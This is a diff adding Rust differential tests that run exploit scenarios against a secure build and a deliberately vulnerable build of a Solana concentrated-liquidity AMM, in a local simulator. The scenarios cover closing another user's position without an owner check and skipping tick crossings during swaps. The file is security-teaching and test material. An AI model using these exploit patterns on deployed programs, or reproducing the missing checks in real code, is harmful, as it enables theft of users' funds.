@@ -0,0 +1,345 @@
+// Differential tests: amm-cl-secure vs amm-cl-vulnerable
+//
+// Each exploit script runs against both builds in one LiteSVM and must be
+// rejected by the secure build and accepted by the vulnerable one.
+// The test_feature_* tests replay them against amm-cl-secure rebuilt with the
+// matching vuln-* feature, which must be the only build to accept them.
+//
+// HOW TO RUN THESE TESTS:
+// The secure .so and its feature builds must be built first:
+//   ./build-vuln-matrix.sh amm-cl-secure
+//   cd programs/amm/amm-cl-vulnerable
+//   cargo test-sbf --test differential
+
+use litesvm::{types::TransactionResult, LiteSVM};
+use litesvm_token::{CreateAssociatedTokenAccount, CreateMint, MintTo};
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction},
+    native_token::LAMPORTS_PER_SOL,
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
+};
+use solana_system_interface::program::ID as system_program;
+use soteria_test_kit::*;
+use spl_associated_token_account::get_associated_token_address;
+
+// declare_id! of amm-cl-secure
+const SECURE_PROGRAM_ID: Pubkey =
+    solana_sdk::pubkey!("F2CXdm8rJ2jz2KxTSR6ASmXFZ2e7isYTHfxks2qYMSXJ");
+const VULNERABLE_PROGRAM_ID: Pubkey = Pubkey::new_from_array(amm_cl_vulnerable::ID.to_bytes());
+
+const PAIR: ProgramPair = ProgramPair {
+    secure: SECURE_PROGRAM_ID,
+    vulnerable: VULNERABLE_PROGRAM_ID,
+};
+
+const LIQUIDITY: u64 = 100_000_000_000;
+
+fn setup_pair() -> LiteSVM {
+    PAIR.load(
+        "../amm-cl-secure/target/deploy/amm_cl_secure.so",
+        "target/deploy/amm_cl_vulnerable.so",
+    )
+}
+
+// Baseline amm-cl-secure and its build with one vuln-* feature, each in its own SVM
+fn setup_feature(feature: &'static str) -> (FeatureVariant, LiteSVM, LiteSVM) {
+    let variant = FeatureVariant { program_id: SECURE_PROGRAM_ID, feature };
+    let (baseline, variant_svm) = variant.load(
+        "../amm-cl-secure/target/deploy/amm_cl_secure.so",
+        variant.so_path("../amm-cl-secure", "amm_cl_secure"),
+    );
+    (variant, baseline, variant_svm)
+}
+
+// Pool over fresh token A and B mints (6 decimals) at tick 0, spacing 60, on one build
+struct Pool {
+    program_id: Pubkey,
+    mint_authority: Keypair,
+    token_a_mint: Pubkey,
+    token_b_mint: Pubkey,
+    pool: Pubkey,
+    // The secure build keeps its initialized ticks in a zero-copy TickSlab
+    // account, passed right after the pool; the vulnerable build has none
+    tick_slab: Option<Pubkey>,
+}
+
+impl Pool {
+    fn new(svm: &mut LiteSVM, program_id: &Pubkey) -> Self {
+        let mint_authority = create_funded_account(svm, 10 * LAMPORTS_PER_SOL);
+        let token_a_mint = CreateMint::new(svm, &mint_authority).decimals(6).send().unwrap();
+        let token_b_mint = CreateMint::new(svm, &mint_authority).decimals(6).send().unwrap();
+
+        let (pool, _) = Pubkey::find_program_address(
+            &[b"pool", token_a_mint.as_ref(), token_b_mint.as_ref()],
+            program_id,
+        );
+        let tick_slab = (*program_id == SECURE_PROGRAM_ID)
+            .then(|| Pubkey::find_program_address(&[b"tick_slab", pool.as_ref()], program_id).0);
+
+        let mut data = anchor_discriminator("initialize_pool").to_vec();
+        data.extend_from_slice(&60u16.to_le_bytes());
+        data.extend_from_slice(&0i32.to_le_bytes());
+
+        let mut accounts = vec![
+            AccountMeta::new(mint_authority.pubkey(), true),
+            AccountMeta::new_readonly(token_a_mint, false),
+            AccountMeta::new_readonly(token_b_mint, false),
+            AccountMeta::new(pool, false),
+            AccountMeta::new(get_associated_token_address(&pool, &token_a_mint), false),
+            AccountMeta::new(get_associated_token_address(&pool, &token_b_mint), false),
+            AccountMeta::new_readonly(spl_token::ID, false),
+            AccountMeta::new_readonly(spl_associated_token_account::ID, false),
+            AccountMeta::new_readonly(system_program, false),
+        ];
+        if let Some(tick_slab) = tick_slab {
+            accounts.insert(4, AccountMeta::new(tick_slab, false));
+        }
+
+        let ix = Instruction { program_id: *program_id, accounts, data };
+        send_ix(svm, ix, &mint_authority).expect("Pool initialization should succeed on both builds");
+
+        Pool {
+            program_id: *program_id,
+            mint_authority,
+            token_a_mint,
+            token_b_mint,
+            pool,
+            tick_slab,
+        }
+    }
+
+    // Insert the secure build's tick slab after the pool at `pool_index`
+    fn with_tick_slab(&self, mut accounts: Vec<AccountMeta>, pool_index: usize) -> Vec<AccountMeta> {
+        if let Some(tick_slab) = self.tick_slab {
+            accounts.insert(pool_index + 1, AccountMeta::new(tick_slab, false));
+        }
+        accounts
+    }
+
+    // Trader holding 1,000,000 of each token
+    fn create_trader(&self, svm: &mut LiteSVM) -> Keypair {
+        let trader = create_funded_account(svm, 5 * LAMPORTS_PER_SOL);
+        for mint in [self.token_a_mint, self.token_b_mint] {
+            let ata = CreateAssociatedTokenAccount::new(svm, &trader, &mint).send().unwrap();
+            MintTo::new(svm, &self.mint_authority, &mint, &ata, 1_000_000_000_000).send().unwrap();
+        }
+        trader
+    }
+
+    fn tick(&self, index: i32) -> Pubkey {
+        Pubkey::find_program_address(
+            &[b"tick", self.pool.as_ref(), &index.to_le_bytes()],
+            &self.program_id,
+        )
+        .0
+    }
+
+    fn position(&self, owner: &Pubkey, lower_tick: i32, upper_tick: i32) -> Pubkey {
+        Pubkey::find_program_address(
+            &[
+                b"position",
+                self.pool.as_ref(),
+                owner.as_ref(),
+                &lower_tick.to_le_bytes(),
+                &upper_tick.to_le_bytes(),
+            ],
+            &self.program_id,
+        )
+        .0
+    }
+
+    // Accounts shared by open_position and close_position, up to the vaults
+    fn position_accounts(
+        &self,
+        signer: &Pubkey,
+        position_owner: &Pubkey,
+        lower_tick: i32,
+        upper_tick: i32,
+    ) -> Vec<AccountMeta> {
+        let accounts = vec![
+            AccountMeta::new(*signer, true),
+            AccountMeta::new(self.pool, false),
+            AccountMeta::new_readonly(self.token_a_mint, false),
+            AccountMeta::new_readonly(self.token_b_mint, false),
+            AccountMeta::new(self.tick(lower_tick), false),
+            AccountMeta::new(self.tick(upper_tick), false),
+            AccountMeta::new(self.position(position_owner, lower_tick, upper_tick), false),
+            AccountMeta::new(get_associated_token_address(&self.pool, &self.token_a_mint), false),
+            AccountMeta::new(get_associated_token_address(&self.pool, &self.token_b_mint), false),
+            AccountMeta::new(get_associated_token_address(signer, &self.token_a_mint), false),
+            AccountMeta::new(get_associated_token_address(signer, &self.token_b_mint), false),
+            AccountMeta::new_readonly(spl_token::ID, false),
+        ];
+        self.with_tick_slab(accounts, 1)
+    }
+
+    // Open a LIQUIDITY position that both builds accept
+    fn open_position(&self, svm: &mut LiteSVM, owner: &Keypair, lower_tick: i32, upper_tick: i32) {
+        let mut data = anchor_discriminator("open_position").to_vec();
+        data.extend_from_slice(&lower_tick.to_le_bytes());
+        data.extend_from_slice(&upper_tick.to_le_bytes());
+        data.extend_from_slice(&LIQUIDITY.to_le_bytes());
+
+        let mut accounts =
+            self.position_accounts(&owner.pubkey(), &owner.pubkey(), lower_tick, upper_tick);
+        accounts.push(AccountMeta::new_readonly(system_program, false));
+
+        let ix = Instruction { program_id: self.program_id, accounts, data };
+        send_ix(svm, ix, owner).expect("Opening position should succeed on both builds");
+    }
+
+    fn close_position(
+        &self,
+        svm: &mut LiteSVM,
+        signer: &Keypair,
+        position_owner: &Pubkey,
+        lower_tick: i32,
+        upper_tick: i32,
+    ) -> TransactionResult {
+        let ix = Instruction {
+            program_id: self.program_id,
+            accounts: self.position_accounts(&signer.pubkey(), position_owner, lower_tick, upper_tick),
+            data: anchor_discriminator("close_position").to_vec(),
+        };
+        send_ix(svm, ix, signer)
+    }
+
+    fn swap(
+        &self,
+        svm: &mut LiteSVM,
+        trader: &Keypair,
+        amount_in: u64,
+        a_to_b: bool,
+        crossed_ticks: &[i32],
+    ) -> TransactionResult {
+        let mut data = anchor_discriminator("swap").to_vec();
+        data.extend_from_slice(&amount_in.to_le_bytes());
+        data.extend_from_slice(&0u64.to_le_bytes());
+        data.push(a_to_b as u8);
+
+        let owner = trader.pubkey();
+        let accounts = vec![
+            AccountMeta::new_readonly(owner, true),
+            AccountMeta::new(self.pool, false),
+            AccountMeta::new_readonly(self.token_a_mint, false),
+            AccountMeta::new_readonly(self.token_b_mint, false),
+            AccountMeta::new(get_associated_token_address(&self.pool, &self.token_a_mint), false),
+            AccountMeta::new(get_associated_token_address(&self.pool, &self.token_b_mint), false),
+            AccountMeta::new(get_associated_token_address(&owner, &self.token_a_mint), false),
+            AccountMeta::new(get_associated_token_address(&owner, &self.token_b_mint), false),
+            AccountMeta::new_readonly(spl_token::ID, false),
+        ];
+        let mut accounts = self.with_tick_slab(accounts, 1);
+        accounts.extend(
+            crossed_ticks
+                .iter()
+                .map(|tick| AccountMeta::new_readonly(self.tick(*tick), false)),
+        );
+
+        let ix = Instruction { program_id: self.program_id, accounts, data };
+        send_ix(svm, ix, trader)
+    }
+}
+
+// V001: Attacker closes a victim's position into their own token accounts
+struct CloseOtherUsersPosition;
+
+struct CloseState {
+    pool: Pool,
+    victim: Keypair,
+    attacker: Keypair,
+}
+
+impl DifferentialScenario for CloseOtherUsersPosition {
+    type State = CloseState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Position Theft - Missing Owner Check on Close",
+            severity: Severity::Critical,
+            lesson: "Only a position's owner may close it: has_one = owner",
+        }
+    }
+
+    fn setup(&self, svm: &mut LiteSVM, program_id: &Pubkey) -> CloseState {
+        let pool = Pool::new(svm, program_id);
+        let victim = pool.create_trader(svm);
+        let attacker = pool.create_trader(svm);
+
+        pool.open_position(svm, &victim, -600, 600);
+
+        CloseState { pool, victim, attacker }
+    }
+
+    fn exploit(
+        &self,
+        svm: &mut LiteSVM,
+        _program_id: &Pubkey,
+        state: &mut CloseState,
+    ) -> TransactionResult {
+        let CloseState { pool, victim, attacker } = state;
+        pool.close_position(svm, attacker, &victim.pubkey(), -600, 600)
+    }
+}
+
+#[test]
+fn test_differential_close_other_users_position() {
+    let mut svm = setup_pair();
+    run_differential(&mut svm, &PAIR, &CloseOtherUsersPosition);
+}
+
+// V002: Attacker swaps past a range edge without passing its tick
+struct SkipTickCrossing;
+
+struct SkipTickState {
+    pool: Pool,
+    attacker: Keypair,
+}
+
+impl DifferentialScenario for SkipTickCrossing {
+    type State = SkipTickState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V002",
+            title: "Tick Skipping - Caller-Chosen Tick Crossings",
+            severity: Severity::Critical,
+            lesson: "Take the next tick to cross from pool state; require its account, never skip it",
+        }
+    }
+
+    fn setup(&self, svm: &mut LiteSVM, program_id: &Pubkey) -> SkipTickState {
+        let pool = Pool::new(svm, program_id);
+        let alice = pool.create_trader(svm);
+        let bob = pool.create_trader(svm);
+        let attacker = pool.create_trader(svm);
+
+        pool.open_position(svm, &alice, -600, 600);
+        pool.open_position(svm, &bob, 1200, 2400);
+
+        SkipTickState { pool, attacker }
+    }
+
+    fn exploit(
+        &self,
+        svm: &mut LiteSVM,
+        _program_id: &Pubkey,
+        state: &mut SkipTickState,
+    ) -> TransactionResult {
+        state.pool.swap(svm, &state.attacker, 4_000_000_000, false, &[])
+    }
+}
+
+#[test]
+fn test_differential_skip_tick_crossing() {
+    let mut svm = setup_pair();
+    run_differential(&mut svm, &PAIR, &SkipTickCrossing);
+}
+
+#[test]
+fn test_feature_missing_owner_check() {
+    let (variant, mut baseline, mut variant_svm) = setup_feature("vuln-missing-owner-check");
+    run_feature_differential(&mut baseline, &mut variant_svm, &variant, &CloseOtherUsersPosition);
+}